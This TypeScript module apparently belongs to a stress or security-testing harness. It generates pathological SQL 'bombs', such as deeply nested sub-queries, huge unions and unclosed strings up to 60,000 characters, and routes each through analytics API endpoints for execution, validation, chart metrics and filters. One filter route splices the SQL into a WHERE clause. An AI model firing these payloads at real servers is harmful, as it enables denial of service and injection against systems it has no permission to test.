import { type AttackedDatabase, type Bomb, chartData, execute, json, type Payload } from "./bomb.ts";

/** Texts of SQL that cost more than they look, by size. */
const SHAPES: Record<string, (size: number) => string> = {
  "nested sub-queries": (n) => `${"select * from (".repeat(n)}select 1${") t".repeat(n)}`,
  "unclosed sub-queries": (n) => "select * from (".repeat(n),
  "nested brackets": (n) => `select ${"(".repeat(n)}1${")".repeat(n)}`,
  "closing brackets": (n) => `select 1${")".repeat(n)}`,
  "nested CASE": (n) => `select ${"case when 1=1 then ".repeat(n)}1${" end".repeat(n)}`,
  "nested functions": (n) => `select ${"abs(".repeat(n)}1${")".repeat(n)}`,
  "chain of NOT": (n) => `select ${"not ".repeat(n)}true`,
  "chain of plus": (n) => `select 1${"+1".repeat(n)}`,
  "chain of minus": (n) => `select ${"- ".repeat(n)}1`,
  "common table expressions": (n) => `with ${list(n, (i) => `c${i} as (select 1 as a)`)} select * from c0`,
  "expressions that read the one before": (n) =>
    `with c0 as (select 1 as a), ${list(n, (i) => `c${i + 1} as (select * from c${i})`)} select * from c${n}`,
  "nested WITH": (n) => `${"with a as (".repeat(n)}select 1${") select * from a".repeat(n)}`,
  unions: (n) => list(n, () => "select 1", " union all "),
  "select list": (n) => `select ${list(n, (i) => `1 as c${i}`)}`,
  joins: (n) => `select * from events e ${list(n, (i) => `join events e${i} on e${i}.id = e.id`, " ")}`,
  "list of values": (n) => `select 1 where 1 in (${list(n, (i) => String(i))})`,
  "empty statements": (n) => `select 1${";".repeat(n)}`,
  statements: (n) => list(n, () => "select 1", ";"),
  "nested comments": (n) => `${"/*".repeat(n)} select 1 ${"*/".repeat(n)}`,
  "line comments": (n) => `select 1 ${"-- a\n".repeat(n)}`,
  "unclosed string": (n) => `select '${"a".repeat(n)}`,
  "doubled quotes": (n) => `select '${"''".repeat(n)}'`,
  "quoted names": (n) => `select ${list(n, () => '"a"."b"', ".")}`,
  "dollar quotes": (n) => list(n, (i) => `$a${i}$`, " "),
  "one long name": (n) => `select ${"a".repeat(n)} from events`,
  "brackets of all kinds": (n) => "([{".repeat(n),
  dots: (n) => `select a${".a".repeat(n)} from events`,
  operators: (n) => `select 1 ${"<>=!~|&^%#@".repeat(n)} 1`,
};

const SIZES = [300, 3_000, 60_000];

const list = (n: number, item: (index: number) => string, separator = ", "): string =>
  Array.from({ length: n }, (_, index) => item(index)).join(separator);

/** Engines that tell what a statement costs. */
const ESTIMATING: ReadonlySet<string> = new Set(["postgresql", "trino"]);

/** Where a text of SQL comes in. */
interface Door {
  name: string;
  path: string;
  payload: (sql: string) => Payload;
}

function doors(databases: readonly AttackedDatabase[]): Door[] {
  const first = databases[0] as AttackedDatabase;
  return [
    { name: "format", path: "/api/v1/sqllab/format_sql/", payload: (sql) => json({ sql }) },
    {
      name: "dataset",
      path: "/api/v1/dataset/",
      payload: (sql) => json({ database: first.id, table_name: `bomb ${Math.random()}`, sql }),
    },
    {
      name: "saved query",
      path: "/api/v1/saved_query/",
      payload: (sql) => json({ db_id: first.id, label: "bomb", sql }),
    },
    ...databases.flatMap((database): Door[] => [
      {
        name: `run on ${database.engine}`,
        path: "/api/v1/sqllab/execute/",
        payload: (sql) => execute(database, sql),
      },
      {
        name: `check on ${database.engine}`,
        path: `/api/v1/database/${database.id}/validate_sql/`,
        payload: (sql) => json({ sql, schema: database.schema }),
      },
      {
        name: `metric on ${database.engine}`,
        path: "/api/v1/chart/data",
        payload: (sql) =>
          chartData(database, {
            metrics: [{ expressionType: "SQL", sqlExpression: sql.replace(/^select /, ""), label: "bomb" }],
          }),
      },
      {
        name: `filter on ${database.engine}`,
        path: "/api/v1/chart/data",
        payload: (sql) => chartData(database, { columns: ["id"], extras: { where: `1 = (${sql})` } }),
      },
    ]),
    ...databases
      .filter(({ engine }) => ESTIMATING.has(engine))
      .map(
        (database): Door => ({
          name: `cost on ${database.engine}`,
          path: "/api/v1/sqllab/estimate/",
          payload: (sql) => json({ database_id: database.id, sql }),
        }),
      ),
  ];
}

/** Each shape in each size through some of the doors, so that every door sees every shape. */
export function textBombs(databases: readonly AttackedDatabase[]): Bomb[] {
  const all = doors(databases);
  return Object.entries(SHAPES).flatMap(([shape, textOf], row) =>
    all.map((door, column): Bomb => {
      const size = SIZES[(row + column + 1) % SIZES.length] as number;
      return {
        name: `${size} ${shape}: ${door.name}`,
        kind: "text",
        path: door.path,
        payload: () => door.payload(textOf(size)),
      };
    }),
  );
}
